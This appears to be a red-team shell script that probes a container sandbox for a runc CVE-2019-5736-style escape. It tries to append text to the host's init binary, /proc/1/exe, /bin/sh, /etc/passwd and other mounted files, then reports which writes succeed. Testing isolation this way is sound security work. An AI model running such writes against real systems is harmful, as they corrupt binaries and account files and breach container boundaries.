# Overwrite what the host runs (runc CVE-2019-5736 style): PID 1's binary (the host's
# docker-init, bind-mounted), /proc/1/exe, and the engine-managed bind mounts in /etc.
echo "REDTEAM overwrite host binaries"
try() {
  if (printf 'pwned\n' >> "$1") 2>/dev/null; then echo "ESCAPED: wrote $1"; else echo "denied $1"; fi
}
for f in /sbin/docker-init /proc/1/exe /usr/local/bin/airlock-init /etc/hostname /etc/hosts /etc/resolv.conf /etc/passwd /bin/sh; do
  try "$f"
done
if ls -l /proc/1/root/ >/dev/null 2>&1; then echo "ESCAPED: listed /proc/1/root"; else echo "denied /proc/1/root"; fi
echo "done"
